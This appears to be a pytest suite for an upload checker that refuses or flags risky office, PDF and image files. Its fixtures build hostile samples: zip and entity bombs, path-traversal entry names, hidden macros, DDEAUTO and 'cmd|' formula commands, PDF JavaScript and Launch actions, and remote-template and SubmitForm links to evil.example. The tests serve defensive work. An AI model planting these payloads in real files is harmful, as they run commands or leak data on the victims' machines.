"""The door: what is let in by its content, what is refused by name with a remedy, what is noted."""
import io
import zipfile
import zlib

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name
from PIL import Image, PngImagePlugin

from zhengtong.kernel.files import archives, pdfs
from zhengtong.kernel.files.models import StoredFile
from zhengtong.kernel.files.refusals import FileRefused

from . import made
from .made import docx_of, line, p, pdf_of, picture_of, r, xlsx_of, zipped

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600


@pytest.fixture
def refused(accept):
    """The code under which a file is refused; nothing may be left of it, and a remedy is said."""

    def code(data, name, **update):
        with pytest.raises(FileRefused) as why:
            accept(data, name, **update)
        assert why.value.remedy and why.value.reason and not StoredFile.objects.exists()
        return why.value.code

    return code


@pytest.fixture
def noted(accept):
    """The findings of a file that is let in."""

    def codes(data, name, **update):
        return {found["code"]: found["count"] for found in accept(data, name, refuse=(), **update).findings}

    return codes


# ---- types

@pytest.mark.parametrize(("data", "name"), [
    (pdf_of(line(20, 100, "hello")), "a.pdf"), (docx_of(p(r("你好"))), "a.docx"), (xlsx_of(), "a.xlsx"), (picture_of(), "a.png"),
    (picture_of("JPEG"), "a.JPEG"), ("姓名,金额\n".encode("gb18030"), "a.csv"), ("\ufeff你好\r\n".encode(), "a.txt")])
def test_what_it_says_it_is_comes_in(noted, data, name):
    assert set(noted(data, name)) <= {"metadata"}


@pytest.mark.parametrize(("data", "name"), [
    (b"MZ\x90\x00" * 40, "a.pdf"), (b"\x7fELF\x02", "a.png"), (b"<html><script>", "a.txt"), (b"<?xml version='1.0'?><svg/>", "a.png"),
    (zipped({"a.txt": "x"}), "a.docx"), (b"", "a.txt"), (b"\x00\x01\x02\x80", "a.bin"), (b"{\\rtf1 x}", "a.docx"), (b"GIF89a", "a.png"),
    (b"\x1f\x8b\x08\x00", "a.pdf"), (b" %PDF-1.7", "a.pdf")])
def test_what_is_something_else_is_refused(refused, data, name):
    assert refused(data, name) == "type"


def test_a_name_that_says_another_type_is_refused_with_the_right_one(accept):
    with pytest.raises(FileRefused) as why:
        accept(pdf_of(b""), "表.docx")
    assert "“表.pdf”" in why.value.remedy


def test_a_type_that_this_place_does_not_take_is_refused(refused):
    assert refused(xlsx_of(), "a.xlsx", allow={"application/pdf"}) == "type"


def test_a_picture_that_is_an_archive_too_is_refused(refused):
    assert refused(picture_of() + zipped({"a.txt": "x"}), "a.png") == "two kinds"


@pytest.mark.parametrize("data", [b"%PDF-1.7\nnothing", b"\x89PNG\r\n\x1a\n" + b"x" * 50, picture_of("JPEG")[:300], docx_of(p(r("x")))[:-300]])
def test_a_damaged_file_is_refused(refused, data):
    endings = {b"%P": "pdf", b"\x89P": "png", b"\xff\xd8": "jpg", b"PK": "docx"}
    assert refused(data, f"a.{endings[data[:2]]}") in ("damaged", "type")


# ---- bombs

def test_a_zip_bomb_is_refused(refused):
    bomb = docx_of(p(r("x")), **{"word/media/a.xml": b"\x00" * (40 << 20)})
    assert len(bomb) < 100_000 and refused(bomb, "a.docx") == "bomb"


def test_many_entries_are_a_bomb(refused):
    assert refused(docx_of(p(r("x")), **{f"word/{n}.xml": "" for n in range(3001)}), "a.docx") == "bomb"


def test_an_archive_in_an_archive_in_a_file_is_refused(refused):
    inner = zipped({"deep.zip": zipped({"a": "x"})})
    assert refused(docx_of(p(r("x")), **{"word/embeddings/a.xlsx": inner}), "a.docx") == "nested"


def test_a_bomb_in_an_embedded_workbook_is_counted_with_the_rest(refused):
    inner = zipped({"xl/a.xml": b" " * (40 << 20)})
    assert refused(docx_of(p(r("x")), **{"word/embeddings/a.xlsx": inner}), "a.docx") == "bomb"


def test_lengths_are_counted_not_believed():
    data = bytearray(zipped({"a": b"\x00" * (30 << 20)}))
    for sign, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):  # both headers say 10 bytes
        place = data.index(sign) + offset
        data[place : place + 4] = (10).to_bytes(4, "little")
    with pytest.raises(FileRefused):
        list(archives.members(bytes(data)))


def test_entries_that_overlap_are_refused():
    data = zipped({"a": b"x" * 5000, "b": b"y" * 5000}, zipfile.ZIP_STORED)
    place = data.rindex(b"PK\x01\x02") + 42  # the second entry points at the first one's place
    twisted = data[:place] + (0).to_bytes(4, "little") + data[place + 4 :]
    with pytest.raises(FileRefused):
        list(archives.members(twisted))


@pytest.mark.parametrize("name", ["../a.xml", "/etc/passwd", "word\\a.xml", "WORD/document.xml"])
def test_tricks_with_entry_names_are_refused(refused, name):
    assert refused(docx_of(p(r("x")), **{name: "x"}), "a.docx") == "damaged"


def test_a_pdf_that_unpacks_beyond_measure_is_refused(refused, monkeypatch):
    monkeypatch.setattr(pdfs, "UNPACKED", 20 << 20)

    def change(pdf):
        for n in range(3):  # no single stream is too long
            pdf.Root[f"/Extra{n}"] = pdf.make_stream(zlib.compress(b"\x00" * (8 << 20)), Filter=Name.FlateDecode)

    assert refused(pdf_of(b"", change=change), "a.pdf") == "bomb"


def test_a_deflated_stream_inside_a_deflated_stream_is_counted():
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(pdfs, "UNPACKED", 1 << 20)
        twice = zlib.compress(zlib.compress(b"\x00" * (8 << 20)))
        with pytest.raises(FileRefused):
            pdfs.check_streams(b"stream\n" + twice + b"\nendstream")


@pytest.mark.parametrize("side", [10_000, 60_000])
def test_a_picture_of_too_many_pixels_is_refused(refused, side):
    data = bytearray(picture_of())
    header = data.index(b"IHDR")
    data[header + 4 : header + 12] = side.to_bytes(4, "big") * 2
    data[header + 17 : header + 21] = zlib.crc32(data[header : header + 17]).to_bytes(4, "big")
    assert refused(bytes(data), "a.png") == "bomb"


# ---- macros, passwords, what starts by itself

@pytest.mark.parametrize("parts", [
    {"word/vbaProject.bin": OLE}, {"word/media/image1.png": OLE}, {"word/embeddings/oleObject1.bin": OLE}, {"word/activeX/activeX1.xml": "<a/>"},
    {"[Content_Types].xml": "<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>"},
    {"word/_rels/document.xml.rels": "<a><b Id='x>' Type='http://schemas.microsoft.com/office/2006/relationships/vbaProject' Target='a.dat'/></a>"},
    {"word/vbaData.xml": "<a/>"}, {"word/embeddings/book.xlsx": zipped({"xl/vbaProject.bin": OLE})}])
def test_macros_are_refused_wherever_they_hide(refused, parts):
    assert refused(docx_of(p(r("x")), **parts), "a.docx") == "macro"


def test_a_macro_workbook_is_refused_under_either_name(refused):
    def book(kind):
        return zipped({"[Content_Types].xml": f"<Types><Override ContentType='{kind}'/></Types>", "xl/workbook.xml": "<workbook/>", "xl/macrosheets/sheet1.xml": "<a/>"})

    assert refused(book("sheet.macroEnabled.main+xml"), "a.xlsm") == "macro"
    assert refused(book("sheet.main+xml"), "a.xlsx") == "macro"


def test_macro_marks_in_utf_16_are_read(refused):
    types = "<?xml version='1.0' encoding='utf-16'?><Types><a ContentType='x.macroEnabled.main+xml'/></Types>"
    assert refused(docx_of(p(r("x")), **{"[Content_Types].xml": types.encode("utf-16")}), "a.docx") == "macro"


def test_old_office_files_are_refused(refused):
    assert refused(OLE, "a.doc") == "macro"
    assert refused(OLE, "a.docx") == "macro"


def test_files_with_a_password_are_refused(refused):
    assert refused(OLE + "EncryptedPackage".encode("utf-16-le"), "a.docx") == "encrypted"
    locked = bytearray(docx_of(p(r("x"))))
    locked[locked.rindex(b"PK\x01\x02") + 8] |= 1
    assert refused(bytes(locked), "a.docx") == "encrypted"


@pytest.mark.parametrize("passwords", [{"user": "geheim", "owner": "x"}, {"user": "", "owner": "x"}])
def test_a_pdf_with_a_password_is_refused(refused, passwords):
    out = io.BytesIO()
    pikepdf.open(io.BytesIO(pdf_of(line(20, 20, "x")))).save(out, encryption=pikepdf.Encryption(**passwords))
    assert refused(out.getvalue(), "a.pdf") == "encrypted"


RELS = '<Relationships><Relationship Id="a>" Type="http://x/{kind}" Target="http://evil.example/x" TargetMode="External"/></Relationships>'


@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject", "frame", "image"])
def test_what_fetches_by_itself_is_refused(refused, kind):
    assert refused(docx_of(p(r("x")), **{"word/_rels/document.xml.rels": RELS.format(kind=kind)}), "a.docx") == "fetches"


def test_a_plain_link_is_let_in(noted):
    assert noted(docx_of(p(r("x")), **{"word/_rels/document.xml.rels": RELS.format(kind="hyperlink")}), "a.docx") == {}


@pytest.mark.parametrize("field", [
    "<w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r>", '<w:fldSimple w:instr="DDE excel x"/>',
    "<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO x</w:instrText></w:r>", "<w:r><w:instrText><![CDATA[DDEAUTO x]]></w:instrText></w:r>"])
def test_commands_in_fields_are_refused(refused, field):
    assert refused(docx_of(p(field)), "a.docx") == "fetches"


def test_a_command_in_a_formula_is_refused(refused):
    book = {"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>", "xl/worksheets/sheet1.xml": "<c><f>cmd|'/c calc'!A1</f></c>"}
    assert refused(zipped(book), "a.xlsx") == "fetches"


def test_text_about_macros_is_no_macro(noted):
    assert noted(docx_of(p(r("DDE 是一种农药；vbaProject 和 macroEnabled 是宏。"))), "a.docx") == {}


def test_a_long_row_of_brackets_is_read_quickly(accept):
    accept(docx_of(p(r("x")), **{"word/a.xml": "<" * 2_000_000}), "a.docx")


def test_strange_codings_are_refused(refused):
    data = docx_of(p(r("x")), **{"word/a.xml": "<?xml version='1.0' encoding='utf-7'?><a/>"})
    assert refused(data, "a.docx") == "entities"


def test_entities_are_refused(refused):
    bomb = '<!DOCTYPE a [<!ENTITY b "ha">]><a>&b;</a>'
    assert refused(docx_of(p(r("x")), **{"word/settings.xml": bomb}), "a.docx") == "entities"


def script(pdf):
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=pikepdf.String("app.alert(1)"))


def launch(pdf):
    pdf.pages[0].Annots = Array([pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]),
                                                              A=Dictionary(S=Name.Launch, F=pikepdf.String("cmd.exe"))))])


def on_open(pdf):
    pdf.pages[0].AA = Dictionary(O=Dictionary(S=Name.SubmitForm, F=pikepdf.String("http://evil.example")))


def named(pdf):
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([pikepdf.String("a"), Dictionary(S=Name.JavaScript, JS=pdf.make_stream(b"x"))])))


def xfa(pdf):
    pdf.Root.AcroForm = Dictionary(Fields=Array([]), XFA=pdf.make_stream(b"<xdp/>"))


@pytest.mark.parametrize("change", [script, launch, on_open, named, xfa])
def test_a_pdf_that_acts_is_refused(refused, change):
    assert refused(pdf_of(b"", change=change), "a.pdf") == "script"


def test_a_pdf_that_acts_from_a_packed_object_is_refused(refused):
    pdf = pikepdf.open(io.BytesIO(pdf_of(b"", change=script)))
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert b"/JavaScript" not in out.getvalue() and refused(out.getvalue(), "a.pdf") == "script"


def attached(pdf):
    pdf.attachments["a.txt"] = b"secret"


def pinned(pdf):
    pdf.pages[0].Annots = Array([pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([0, 0, 9, 9])))])


@pytest.mark.parametrize("change", [attached, pinned])
def test_a_pdf_that_carries_files_is_refused(refused, change):
    assert refused(pdf_of(b"", change=change), "a.pdf") == "attachment"


# ---- what is noted

def layered(pdf, off=True):
    layer = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=pikepdf.String("draft")))
    pdf.Root.OCProperties = Dictionary(OCGs=Array([layer]), D=Dictionary(OFF=Array([layer] if off else [])))
    pdf.pages[0].Resources.Properties = Dictionary(L=layer)


def test_hidden_layers_are_refused_unless_this_use_admits_them(refused, noted):
    data = pdf_of(b"/OC /L BDC\n" + line(20, 100, "hidden") + b"EMC", change=layered)
    assert refused(data, "a.pdf") == "hidden layers"
    assert noted(data, "a.pdf")["hidden layers"] == 1


def test_layers_that_are_shown_are_noted(accept):
    data = pdf_of(b"", change=lambda pdf: layered(pdf, off=False))
    assert [found["code"] for found in accept(data, "a.pdf").findings] == ["layers"]


@pytest.mark.parametrize("content", [line(20, 100, "secret", extra="3 Tr"), b"1 1 1 rg " + line(20, 100, "secret"), line(900, 100, "secret")])
def test_text_without_ink_or_off_the_page_is_noted(noted, content):
    assert noted(pdf_of(content), "a.pdf") == {"hidden text": 1}


def test_comments_and_older_versions_of_a_pdf_are_noted(noted):
    def change(pdf):
        pdf.pages[0].Annots = Array([pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=Array([0, 0, 9, 9]), Contents=pikepdf.String("Zhang")))])

    data = pdf_of(line(20, 20, "x"), change=change)
    start = int(data.rsplit(b"startxref\n", 1)[1].split()[0])
    newer = data + b"\nxref\n0 0\ntrailer\n<</Size 9 /Root 1 0 R /Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (start, len(data) + 1)
    assert noted(newer, "a.pdf") == {"annotations": 1, "older versions": 1}


def test_what_a_reader_of_a_document_does_not_see_is_noted(noted):
    data = docx_of(p(r("x"), '<w:del w:id="1"><w:r><w:delText>gone</w:delText></w:r></w:del>', r("y", "<w:vanish/>")),
                   **{"word/comments.xml": "<a/>", "customXml/item1.xml": "<a/>", "docProps/thumbnail.jpeg": picture_of("JPEG"),
                      "docProps/core.xml": "<c><dc:creator>Zhang</dc:creator></c>"})
    assert noted(data, "a.docx") == dict.fromkeys(["tracked changes", "hidden text", "comments", "custom data", "thumbnail", "metadata"], 1)


def test_what_a_reader_of_a_workbook_does_not_see_is_noted(noted):
    def change(book):
        book.create_sheet("底").sheet_state = "veryHidden"
        book.active.row_dimensions[2].hidden = True
        made.comment(book, "x")

    found = noted(xlsx_of(change), "a.xlsx")
    assert found["hidden sheets"] == found["hidden rows or columns"] == 1 and found["comments"] >= 1


def test_what_a_picture_carries_is_noted(noted):
    exif = Image.Exif()
    exif[0x010F], exif.get_ifd(0x8825)[1] = "Camera", "N"
    assert set(noted(picture_of("JPEG", exif=exif), "a.jpg")) == {"camera data", "position"}
    words = PngImagePlugin.PngInfo()
    words.add_text("Author", "Zhang")
    assert noted(picture_of("PNG", pnginfo=words), "a.png") == {"text chunks": 1}
